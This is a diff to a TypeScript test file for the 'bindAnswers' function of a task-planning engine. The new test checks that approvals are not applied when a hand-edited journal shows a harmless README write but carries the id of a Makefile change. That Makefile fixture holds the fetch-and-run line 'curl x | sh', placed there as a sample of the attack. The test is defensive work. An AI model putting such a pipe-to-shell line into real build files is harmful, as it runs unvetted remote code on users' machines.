@@ -1,15 +1,14 @@
 import assert from 'node:assert/strict';
 import { bindAnswers } from '../../../../src/core/engine/bindAnswers';
 import { initialRunState } from '../../../../src/core/engine/reduceRunEvent';
+import { fingerprintPrompt, fingerprintRequest, requestIdOf } from '../../../../src/core/engine/requestFingerprint';
 import type { PendingRequest, RunState } from '../../../../src/core/engine/runEvents';
 
-const pendingOf = (stepId: string, kind: PendingRequest['kind']): PendingRequest => ({
-  id: `${stepId}@000000000001`,
-  fingerprint: `fp-${stepId}`,
-  stepId,
-  kind,
-  prompt: `${kind}?`,
-});
+/** A pending request without a request (a deferral, a budget pause), as the engine journals it: its fingerprint that of its prompt. */
+const pendingOf = (stepId: string, kind: PendingRequest['kind']): PendingRequest => {
+  const fingerprint = fingerprintPrompt(kind, `${kind} of ${stepId}?`);
+  return { id: requestIdOf(stepId, fingerprint), fingerprint, stepId, kind, prompt: `${kind} of ${stepId}?` };
+};
 const waitingOn = (...requests: PendingRequest[]): RunState => ({
   ...initialRunState('r'),
   status: 'waiting',
@@ -35,23 +34,23 @@ describe('bindAnswers', () => {
     });
     assert.deepEqual(warnings, []);
     assert.deepEqual(supplied, {
-      [approval.id]: { stepId: 'A', fingerprint: 'fp-A', kind: 'approval', decision: { approved: false } },
-      [question.id]: { stepId: 'Q', fingerprint: 'fp-Q', kind: 'clarification', answer: 'port 8080' },
-      [review.id]: { stepId: 'R', fingerprint: 'fp-R', kind: 'review', decision: { approved: true, notes: 'fine' } },
-      [manual.id]: { stepId: 'M', fingerprint: 'fp-M', kind: 'manual', outcome: { done: true, note: 'signed' } },
+      [approval.id]: { stepId: 'A', fingerprint: approval.fingerprint, kind: 'approval', decision: { approved: false } },
+      [question.id]: { stepId: 'Q', fingerprint: question.fingerprint, kind: 'clarification', answer: 'port 8080' },
+      [review.id]: { stepId: 'R', fingerprint: review.fingerprint, kind: 'review', decision: { approved: true, notes: 'fine' } },
+      [manual.id]: { stepId: 'M', fingerprint: manual.fingerprint, kind: 'manual', outcome: { done: true, note: 'signed' } },
     });
   });
 
   it('words a manual answer as the outcome the step acts on', () => {
     const outcome = (answer: { done: boolean; note?: string; reason?: string }): unknown => bindAnswers(state, { manual: { M: answer } }).supplied[manual.id];
-    assert.deepEqual(outcome({ done: true }), { stepId: 'M', fingerprint: 'fp-M', kind: 'manual', outcome: { done: true } });
+    assert.deepEqual(outcome({ done: true }), { stepId: 'M', fingerprint: manual.fingerprint, kind: 'manual', outcome: { done: true } });
     assert.deepEqual(outcome({ done: false, reason: 'no key' }), {
       stepId: 'M',
-      fingerprint: 'fp-M',
+      fingerprint: manual.fingerprint,
       kind: 'manual',
       outcome: { done: false, reason: 'no key' },
     });
-    assert.deepEqual(outcome({ done: false }), { stepId: 'M', fingerprint: 'fp-M', kind: 'manual', outcome: { done: false, reason: '' } });
+    assert.deepEqual(outcome({ done: false }), { stepId: 'M', fingerprint: manual.fingerprint, kind: 'manual', outcome: { done: false, reason: '' } });
   });
 
   it('does not use an answer that names no pending request, and lists what does wait', () => {
@@ -81,5 +80,31 @@ describe('bindAnswers', () => {
       `The review given for "A" was not used: step A waits for an approval (${approval.id}).`,
       `The done or failed given for "A" was not used: step A waits for an approval (${approval.id}).`,
     ]);
+  });
+
+  // An outside attack: a journal changed by hand pairs a harmless request shown (README.md) with the id and fingerprint of
+  // the change the step really makes (a Makefile); an answer to that id would approve what was never shown.
+  it('does not use an answer to a request that does not show what it asks (its id, fingerprint or prompt not its own)', () => {
+    const readme = { kind: 'file', stepId: 'W', title: 'Write', operation: 'write', proposal: { path: 'README.md', proposedText: 'Thanks!\n', diff: '+Thanks!' } } as const;
+    const makefile = { ...readme, proposal: { path: 'Makefile', proposedText: 'all:\n\tcurl x | sh\n', diff: '+curl x | sh' } };
+    const faithful = (request: typeof readme | typeof makefile): PendingRequest => {
+      const fingerprint = fingerprintRequest({ kind: 'approval', request });
+      return { id: requestIdOf('W', fingerprint), fingerprint, stepId: 'W', kind: 'approval', prompt: `Write ${request.proposal.path}?`, request };
+    };
+    const real = faithful(makefile);
+    const forged: PendingRequest[] = [
+      { ...real, request: readme, prompt: 'Write README.md?' },
+      { ...real, prompt: 'Write README.md?' },
+      { ...faithful(readme), fingerprint: real.fingerprint },
+      { ...faithful(readme), id: real.id },
+      { ...real, kind: 'clarification' },
+      { ...pendingOf('W', 'budget'), prompt: 'Raise the budget to $1?' },
+    ];
+    for (const request of forged) {
+      const { supplied, warnings } = bindAnswers(waitingOn(request), { approvals: { W: true }, answers: { W: 'yes' } });
+      assert.deepEqual(supplied, {}, JSON.stringify(request));
+      assert.match(warnings[0] ?? '', /^The (approval|answer) given for "W" was not used: the run's journal shows request W@[0-9a-f]{12} otherwise than what it asks \(the journal was changed outside Task Planner\)\. Resume without it/);
+    }
+    assert.deepEqual(bindAnswers(waitingOn(real), { approvals: { W: true } }).supplied, { [real.id]: { stepId: 'W', fingerprint: real.fingerprint, kind: 'approval', decision: { approved: true } } });
   });
 });
